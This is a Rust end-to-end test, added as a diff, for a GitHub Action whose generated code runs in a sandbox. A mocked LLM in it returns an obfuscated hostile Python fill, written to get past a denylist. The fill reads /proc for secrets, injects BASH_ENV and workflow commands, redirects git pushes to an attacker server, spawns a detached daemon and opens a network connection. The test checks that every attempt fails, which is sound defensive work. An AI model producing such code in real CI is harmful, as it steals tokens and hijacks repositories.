@@ -1,0 +1,286 @@
+//! Generated code gets nothing that is not its own: a hostile fill from the scripted LLM that
+//! really runs inside the generated app's tests tries every attack of issue 13, and each one
+//! must fail — while the run still ends with the scaffold's passing tests pushed to origin.
+//!
+//! The fill slips past the fills' denylist on purpose (the denylist is a filter, not the
+//! boundary). It proves it ran by writing a marker into the venv (the one place it may write
+//! that outlives the staging folder, which the revert wipes), then fails the tests so that its
+//! output, with workflow commands hidden behind lone CRs, is echoed by the action.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::PathBuf;
+
+use serde_json::{Value, json};
+use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate, matchers::method};
+
+use crate::helpers::{GitServer, TestContext, sample_event, shared_cache, text};
+
+const TOKEN: &str = "ghs_SandboxCanaryToken0123456789abc";
+const KEY: &str = "sk-SandboxCanaryKey0123456789abcdef";
+
+/// The hostile fill. `@NAME@` placeholders are filled in by the test.
+const HOSTILE: &str = r#"import os as _o, sys as _s, json as _j
+_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
+_op = _b["op" + "en"]
+_imp = _b["__imp" + "ort__"]
+_r = {"ran": True, "uid": _o.getuid(), "canary_seen": False, "readable_environ": [], "writes": {}}
+
+
+def _attempt(name, f):
+    try:
+        _r[name] = "ok: " + str(f())[:300]
+    except BaseException as e:
+        _r[name] = "refused: " + type(e).__name__ + ": " + str(e)[:300]
+
+
+def _ancestors():
+    pid, out = _o.getpid(), []
+    while pid > 1:
+        with _op("/proc/%d/status" % pid) as f:
+            pid = int([l for l in f if l.startswith("PPid:")][0].split()[1])
+        out.append(pid)
+    return out
+
+
+def _environs():
+    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
+        for what in ("envi" + "ron", "mem"):
+            try:
+                with _op("/proc/%s/%s" % (pid, what), "rb") as f:
+                    data = f.read(1 << 20)
+            except BaseException:
+                continue
+            _r["readable_environ"].append(pid + "/" + what)
+            if b"Canary" in data:
+                _r["canary_seen"] = True
+    return len(_r["readable_environ"])
+
+
+_attempt("ancestors", _ancestors)
+_attempt("environ", _environs)
+for _name, _path, _text in [
+    ("github_output", "@OUTPUT@", "pwned=@NONCE@\n"),
+    ("github_env", "@ENV@", "BASH_ENV=/tmp/pwned-@NONCE@\n"),
+    ("step_summary", "@SUMMARY@", "pwned-@NONCE@\n"),
+    ("workspace_file", "@WORKSPACE@/README.md", "pwned-@NONCE@\n"),
+    ("git_config", "@WORKSPACE@/.git/config",
+     '[url "ht' + 'tp://@ATTACKER@/"]\n\tinsteadOf = ht' + 'tp://@ORIGIN@/\n\tpushInsteadOf = ht' + 'tp://@ORIGIN@/\n'),
+]:
+    def _w(p=_path, t=_text):
+        with _op(p, "a") as f:
+            f.write(t)
+    _attempt("write_" + _name, _w)
+
+
+def _daemon():
+    sp = _imp("subpro" + "cess")
+    p = getattr(sp, "Po" + "pen")(["sleep", "31347"], start_new_session=True)
+    return p.pid
+
+
+def _connect():
+    so = _imp("soc" + "ket")
+    c = so.create_connection(("127.0.0.1", @PORT@), timeout=3)
+    c.close()
+    return "connected"
+
+
+_attempt("daemon", _daemon)
+_attempt("connect", _connect)
+with _op(_s.prefix + "/e2e-hostile-@NONCE@.json", "w") as _f:
+    _j.dump(_r, _f)
+raise RuntimeError("hostile fill ran\r::warning::pwned-@NONCE@\r::add-mask::passed\u2028::error::pwned-@NONCE@")
+
+
+def validate(data, account):
+    return data
+"#;
+
+struct Hostile(String);
+
+impl Respond for Hostile {
+    fn respond(&self, req: &Request) -> ResponseTemplate {
+        let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
+        let user = body["messages"][1]["content"].as_str().unwrap_or("");
+        let system = body["messages"][0]["content"].as_str().unwrap_or("");
+        let answer = if system.contains("DevOps engineer") {
+            json!({"memory_limit_mb": 512, "latency_p95_seconds": 1.0, "notes": []})
+        } else if system.contains("software architect") {
+            json!({"overview": "x", "decisions": [], "risks": []})
+        } else if user.contains("Hole: rules") && user.contains("File: app/rules/book.py") {
+            json!({"code": self.0})
+        } else {
+            json!({"code": "pass\n"})
+        };
+        ResponseTemplate::new(200).set_body_json(json!({
+            "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": answer.to_string()}}],
+            "usage": {"prompt_tokens": 10, "completion_tokens": 10}
+        }))
+    }
+}
+
+fn find_marker(nonce: &str) -> Option<PathBuf> {
+    let venvs = shared_cache().join("venvs");
+    std::fs::read_dir(venvs).ok()?.find_map(|e| {
+        let p = e.ok()?.path().join(format!("e2e-hostile-{nonce}.json"));
+        p.is_file().then_some(p)
+    })
+}
+
+fn sleepers() -> Vec<String> {
+    let out = std::process::Command::new("ps")
+        .args(["-eo", "pid,user,args"])
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter(|l| l.contains("sleep 31347"))
+        .map(String::from)
+        .collect()
+}
+
+fn is_root() -> bool {
+    // SAFETY: geteuid cannot fail.
+    unsafe { libc::geteuid() == 0 }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hostile_fill_reaches_nothing_that_is_not_its_own() {
+    let nonce = format!("{:x}", std::process::id() as u64 * 7919 + 17);
+    let mut ctx = TestContext::new();
+    let origin = GitServer::start(ctx.dir.path(), TOKEN);
+    let attacker_root = ctx.dir.path().join("attacker");
+    std::fs::create_dir_all(&attacker_root).unwrap();
+    let attacker = GitServer::start(&attacker_root, "anything");
+    let repo = git2::Repository::open(&ctx.workspace).unwrap();
+    repo.remote_set_url("origin", &origin.url("origin.git"))
+        .unwrap();
+    let config_before = std::fs::read(ctx.workspace.join(".git/config")).unwrap();
+    let readme_before = std::fs::read(ctx.workspace.join("README.md")).unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let github_env = ctx.dir.path().join("github_env");
+    std::fs::write(&github_env, "KEEP=1\n").unwrap();
+    // Without the scheme: the fill spells it in pieces, past the denylist.
+    let origin_base = format!("127.0.0.1:{}", origin.port);
+    let attacker_base = format!("127.0.0.1:{}", attacker.port);
+    let fill = HOSTILE
+        .replace("@OUTPUT@", &ctx.output.display().to_string())
+        .replace("@ENV@", &github_env.display().to_string())
+        .replace("@SUMMARY@", &ctx.summary.display().to_string())
+        .replace("@WORKSPACE@", &ctx.workspace.display().to_string())
+        .replace("@ORIGIN@", &origin_base)
+        .replace("@ATTACKER@", &attacker_base)
+        .replace("@PORT@", &listener.local_addr().unwrap().port().to_string())
+        .replace("@NONCE@", &nonce);
+
+    let llm = MockServer::start().await;
+    Mock::given(method("POST"))
+        .respond_with(Hostile(fill))
+        .mount(&llm)
+        .await;
+    for (k, v) in [
+        ("INPUT_LLM-PROVIDER", "openai"),
+        ("INPUT_LLM-BASE-URL", llm.uri().as_str()),
+        ("INPUT_LLM-API-KEY", KEY),
+        ("INPUT_GITHUB-TOKEN", TOKEN),
+        ("INPUT_TEST-TIMEOUT", "120"),
+        ("INPUT_MAX-REPAIR-ATTEMPTS", "0"),
+        ("GITHUB_REPOSITORY", ""),
+        ("ACTIONS_RUNTIME_TOKEN", "Canary-runtime-token"),
+        ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "Canary-oidc-token"),
+    ] {
+        ctx.env.insert(k.into(), v.into());
+    }
+    ctx.env
+        .insert("GITHUB_ENV".into(), github_env.display().to_string());
+    let out = ctx.run_action("issues", Some(&sample_event()));
+    let all = text(&out);
+
+    // It ran: its marker is in the venv, and its error was echoed (so the echo is tested).
+    let marker_path = find_marker(&nonce).unwrap_or_else(|| panic!("the fill never ran\n{all}"));
+    let marker: Value = serde_json::from_slice(&std::fs::read(&marker_path).unwrap()).unwrap();
+    let _ = std::fs::remove_file(&marker_path);
+    assert_eq!(marker["ran"], true);
+    assert!(all.contains(&format!("pwned-{nonce}")), "{all}");
+
+    // The run still ends well: the scaffold's tests pass and the branch is on origin.
+    assert!(out.status.success(), "{all}");
+    assert_eq!(ctx.outputs()["tests"], "passed", "{all}");
+    assert!(all.contains("reverted to the scaffold"), "{all}");
+    assert!(all.contains("sandbox: "), "{all}");
+    let branch = ctx.outputs()["branch"].clone();
+    assert!(ctx.origin_branches().contains_key(&branch), "{all}");
+
+    // 1. No secret of the action's was readable, through /proc or otherwise.
+    assert_eq!(marker["canary_seen"], false, "{marker:#}");
+    if is_root() {
+        // Its own uid: not ours.
+        assert_ne!(marker["uid"], 0, "{marker:#}");
+        assert!(all.contains("own uid"), "{all}");
+    }
+    // 2. and 3. Nothing of the runner's or the workspace's was written.
+    for name in [
+        "github_output",
+        "github_env",
+        "step_summary",
+        "workspace_file",
+        "git_config",
+    ] {
+        let r = marker[format!("write_{name}")].as_str().unwrap_or("");
+        assert!(r.starts_with("refused"), "{name}: {r}");
+    }
+    assert_eq!(std::fs::read_to_string(&github_env).unwrap(), "KEEP=1\n");
+    for file in [&ctx.output, &ctx.summary] {
+        let s = std::fs::read_to_string(file).unwrap_or_default();
+        assert!(
+            !s.contains(&format!("pwned={nonce}")) && !s.contains(&format!("pwned-{nonce}\n")),
+            "{s}"
+        );
+    }
+    assert_eq!(
+        std::fs::read(ctx.workspace.join(".git/config")).unwrap(),
+        config_before
+    );
+    let readme = std::fs::read(ctx.workspace.join("README.md")).unwrap();
+    assert_eq!(readme, readme_before);
+    // The token went to origin only: the attacker's server saw no request at all.
+    let attacker_log = std::fs::read_to_string(&attacker.log).unwrap_or_default();
+    assert!(attacker_log.trim().is_empty(), "{attacker_log}");
+    // No TCP connect during the tests.
+    let c = marker["connect"].as_str().unwrap_or("");
+    if e2e_action::sandbox::isolation::landlock_abi() >= 4 {
+        assert!(c.starts_with("refused"), "{c}");
+        let mut accepted = listener.accept();
+        if let Ok((s, _)) = &mut accepted {
+            let mut buf = [0u8; 16];
+            let _ = s.read(&mut buf);
+        }
+        assert!(
+            accepted.is_err(),
+            "a connection reached the test's listener"
+        );
+    }
+    // 4. No workflow command reached the runner: no line, however it is broken, starts one
+    //    of the fill's.
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    for line in stdout.split([
+        '\r', '\n', '\u{85}', '\u{2028}', '\u{2029}', '\u{0b}', '\u{0c}',
+    ]) {
+        let t = line.trim_start();
+        assert!(
+            !(t.starts_with("::") && (t.contains(&nonce) || t.starts_with("::add-mask::passed"))),
+            "workflow command echoed: {line:?}"
+        );
+    }
+    // Nothing of it survives the step, although it left the process group (setsid).
+    assert!(
+        marker["daemon"].as_str().unwrap_or("").starts_with("ok"),
+        "{marker:#}"
+    );
+    if is_root() {
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        assert_eq!(sleepers(), Vec::<String>::new(), "processes left behind");
+    }
+}
